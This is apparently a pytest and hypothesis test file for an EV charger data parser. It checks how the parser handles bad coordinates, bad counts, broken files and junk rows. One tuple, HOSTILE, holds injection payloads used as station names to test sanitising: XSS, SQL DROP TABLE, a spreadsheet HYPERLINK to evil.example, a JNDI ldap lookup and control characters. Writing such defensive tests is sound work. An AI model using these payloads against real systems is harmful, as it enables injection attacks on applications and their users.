"""Junk, wrong types and hostile text: a clear error for a file, a counted skip for a row."""

import json
import math
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tripplan.errors import DataError
from tripplan.sources.chargers.files import parse_chargers, read_chargers
from tripplan.sources.chargers.reading import ChargerReading

HUGE = 10**400


def station(**changes: object) -> dict[str, object]:
    row: dict[str, object] = {
        "id": 1,
        "station_name": "Garage",
        "latitude": 47.0,
        "longitude": -122.0,
        "ev_connector_types": ["CHADEMO"],
        "ev_dc_fast_num": 1,
    }
    return row | changes


def read(rows: list[Any]) -> ChargerReading:
    data = json.dumps({"fuel_stations": rows}).encode()
    return parse_chargers(data, where="answer")


@pytest.mark.parametrize(
    ("lat", "lon", "reason"),
    [
        (None, -122.0, "no coordinates"),
        ("", "", "no coordinates"),
        ("north", "west", "coordinates are not numbers"),
        (math.nan, -122.0, "coordinates are not numbers"),
        (math.inf, -122.0, "coordinates are not numbers"),
        ("nan", "nan", "coordinates are not numbers"),
        ("4_7", "-122", "coordinates are not numbers"),
        (True, -122.0, "coordinates are not numbers"),
        ([47.0], -122.0, "coordinates are not numbers"),
        (47.0, -722.0, "coordinates out of range"),
        (4700.0, -122.0, "coordinates out of range"),
        (0, 0, "coordinates are 0,0"),
        (-122.0, 47.0, "latitude where no road is: coordinates swapped?"),
        (-80.2, 25.8, "latitude where no road is: coordinates swapped?"),
    ],
)
def test_impossible_positions_are_skipped_and_counted(
    lat: object, lon: object, reason: str
) -> None:
    reading = read([station(latitude=lat, longitude=lon), station(id=2)])
    assert [charger.id for charger in reading.chargers] == ["afdc:2"]
    assert dict(reading.skipped) == {reason: 1}


def test_rows_that_are_no_objects_are_skipped_and_counted() -> None:
    reading = read([None, 5, "row", [1, 2], True, station()])
    assert len(reading.chargers) == 1
    assert dict(reading.skipped) == {"the row is not an object": 5}


def test_a_file_of_which_no_row_can_be_used_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "all_bad.json"
    path.write_text(json.dumps({"fuel_stations": [station(latitude=None), None]}))
    with pytest.raises(DataError, match=r"none of its 2 rows .*1 x no coordinates"):
        read_chargers(path)


@pytest.mark.parametrize("count", [-1, 1e12, 1.5, "many", [], HUGE])
def test_impossible_counts_become_unknown(count: object) -> None:
    reading = read([station(ev_dc_fast_num=count)])
    assert reading.chargers[0].stalls is None
    assert sum(reading.ignored.values()) == 1


@pytest.mark.parametrize("power", [1e12, -50, "lots", HUGE, "1e400", [50], {"kw": 50}])
def test_impossible_powers_become_unknown(power: object) -> None:
    unit = {
        "charging_level": "dc_fast",
        "connectors": {"CHADEMO": {"power_kw": power, "port_count": 1}},
    }
    reading = read([station(ev_charging_units=[unit])])
    assert [plug.power_kw for plug in reading.chargers[0].connectors] == [None]
    assert sum(reading.ignored.values()) == 1


HOSTILE = (
    "<script>alert(1)</script>",
    "'; DROP TABLE chargers; --",
    '=HYPERLINK("http://evil.example","x")',
    "{{7*7}}${jndi:ldap://x}",
    "\x00\x1b[31mred\x07\r\nnew line",
    "abc\u202edef\u2066",
    "lone \ud800 surrogate",
    "🚗" * 50,
)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_becomes_one_harmless_line(name: str) -> None:
    charger = read([station(station_name=name)]).chargers[0]
    assert charger.name.encode("utf-8")
    assert charger.name.isprintable() or "🚗" in charger.name
    assert "\u202e" not in charger.name


def test_text_of_10_kb_is_cut_and_counted() -> None:
    reading = read([station(station_name="x" * 10_000, ev_network="y" * 10_000)])
    charger = reading.chargers[0]
    assert len(charger.name) == len(charger.network) == 200
    assert charger.name.endswith("…")
    assert dict(reading.ignored) == {"a text longer than 200 characters was cut": 2}


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "empty"),
        (b"  \n\t", "empty"),
        (b"\x1f\x8b\x08\x00", "gzip"),
        (b"PK\x03\x04xx", "zip"),
        (b"\x89PNG\r\n", "picture"),
        (b"\x00\x00\x00\x0d\x0a\x09OSMHeader\x18", "pbf"),
        (b"\xff\xfe{\x00", "UTF-16"),
        (b'{"name": "\xe9\xe8"}', "not UTF-8"),
        (b"a\0b", "binary"),
        (b"<!DOCTYPE html><h1>504 Gateway Time-out</h1>", "HTML"),
        (b'<?xml version="1.0"?><osm/>', "HTML or XML"),
        (b'{"fuel_stations": [{"id": 1, "latitude": 4', "cut off"),
        (b'{"fuel_stations": [{"id": "unfinis', "cut off"),
        (b'{"fuel_stations": [}]', "damaged"),
        (b"[" * 100_000, "nested too deeply"),
        (b'{"fuel_stations": [' + b"9" * 5000 + b"]}", "thousands of digits"),
        (b"[]", "no known form"),
        (b"{}", "no known form"),
        (b"[1, 2, 3]", "no known form"),
        (b'{"a": 1}', "no known form"),
        (b"name;power\nx;5\n", "neither JSON nor a table"),
        (b"just some words", "neither JSON nor a table"),
        (b"latitude,name\n1,x\n", "columns lat and lon"),
        (b'{"fuel_stations": 5}', "list of stations"),
        (b'{"features": [], "type": "x"}x', "damaged"),
    ],
)
def test_files_that_are_none_are_refused(data: bytes, words: str) -> None:
    with pytest.raises(DataError, match=words) as caught:
        parse_chargers(data, where="upload")
    assert caught.value.path == "upload"
    assert len(str(caught.value)) < 800


def test_a_file_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(DataError, match="cannot be read"):
        read_chargers(tmp_path / "missing.json")
    with pytest.raises(DataError, match="cannot be read"):
        read_chargers(tmp_path)


def test_a_table_with_too_many_cells_skips_that_row() -> None:
    data = b"lat,lon,name\n1,2,a\n1,2,b,c,d\n3,4,e\n"
    reading = parse_chargers(data, where="table.csv")
    assert [charger.name for charger in reading.chargers] == ["a", "e"]
    assert dict(reading.skipped) == {"more cells than columns": 1}


def test_a_table_with_an_endless_cell_is_refused() -> None:
    data = b'lat,lon,name\n1,2,"' + b"x" * 200_000
    with pytest.raises(DataError, match="not a readable CSV"):
        parse_chargers(data, where="table.csv")


quick = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
junk = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=4,
)
AFDC_KEYS = (
    "id latitude longitude station_name ev_dc_fast_num ev_level2_evse_num ev_connector_types "
    "ev_charging_units access_code status_code fuel_type_code date_last_confirmed ev_pricing"
)
OCM_KEYS = "ID AddressInfo Connections StatusTypeID StatusType UsageType OperatorInfo UsageCost"
OCPI_KEYS = "id coordinates evses publish operator opening_times last_updated name country_code"
TABLE_KEYS = "id name address operator connectors power_kw stalls access fee price date"


def rows_of(keys: str) -> st.SearchStrategy[dict[str, Any]]:
    return st.dictionaries(st.sampled_from(keys.split()), junk, max_size=8)


def checked(reading: ChargerReading, rows: int) -> None:
    assert reading.row_count == rows
    for charger in reading.chargers:
        assert -60 <= charger.lat <= 82
        assert -180 <= charger.lon <= 180
        assert all(p.power_kw is None or 0 < p.power_kw <= 2000 for p in charger.connectors)
        assert charger.name.encode("utf-8")


@quick
@given(st.lists(rows_of(AFDC_KEYS), max_size=4))
def test_any_junk_in_afdc_rows_is_read_or_counted(rows: list[Any]) -> None:
    placed = [{"latitude": 47.0, "longitude": -122.0} | row for row in rows]
    checked(read(placed), len(rows))


@quick
@given(
    st.lists(rows_of(OCM_KEYS), max_size=4),
    st.dictionaries(st.sampled_from(["Title", "Town", "Postcode"]), junk),
    st.dictionaries(st.sampled_from(["ConnectionTypeID", "PowerKW", "Quantity"]), junk),
)
def test_any_junk_in_open_charge_map_rows_is_read_or_counted(
    rows: list[Any], place: Mapping[str, Any], plug: Mapping[str, Any]
) -> None:
    whole = {"AddressInfo": {"Latitude": 47.0, "Longitude": 8.0, **place}, "Connections": [plug]}
    data = json.dumps([whole, *rows]).encode()
    checked(parse_chargers(data, where="x"), len(rows) + 1)


@quick
@given(
    st.lists(rows_of(OCPI_KEYS), max_size=4),
    rows_of("status connectors parking_restrictions uid"),
    rows_of("standard power_type max_voltage max_amperage max_electric_power"),
)
def test_any_junk_in_ocpi_rows_is_read_or_counted(
    rows: list[Any], evse: dict[str, Any], plug: dict[str, Any]
) -> None:
    whole = {
        "coordinates": {"latitude": "47", "longitude": "8"},
        "evses": [evse, {"connectors": [plug]}],
    }
    data = json.dumps({"status_code": 1000, "data": [whole, *rows]}).encode()
    checked(parse_chargers(data, where="x"), len(rows) + 1)


@quick
@given(st.lists(rows_of(TABLE_KEYS), max_size=4))
def test_any_junk_in_table_rows_is_read_or_counted(rows: list[Any]) -> None:
    features = [
        {"geometry": {"coordinates": [8.0 + k, 47.0]}, "properties": row}
        for k, row in enumerate(rows)
    ]
    checked(parse_chargers(json.dumps({"features": features}).encode(), where="x"), len(rows))


@quick
@given(
    st.lists(
        st.dictionaries(
            st.sampled_from(["socket:chademo", "socket:chademo:output", "capacity", "access"]),
            st.text(max_size=30),
        ),
        max_size=4,
    )
)
def test_any_junk_in_openstreetmap_tags_is_read_or_counted(rows: list[dict[str, str]]) -> None:
    elements = [
        {
            "type": "node",
            "id": k,
            "lat": 47.0,
            "lon": 8.0,
            "tags": {"amenity": "charging_station"} | tags,
        }
        for k, tags in enumerate(rows)
    ]
    checked(parse_chargers(json.dumps({"elements": elements}).encode(), where="x"), len(rows))


@quick
@given(st.binary(max_size=200))
def test_any_bytes_are_chargers_or_a_clear_error(data: bytes) -> None:
    try:
        rows = parse_chargers(data, where="upload").row_count
    except DataError as refusal:
        words = str(refusal)
    else:
        words = f"upload: {rows} rows"
    assert words.startswith("upload: ")
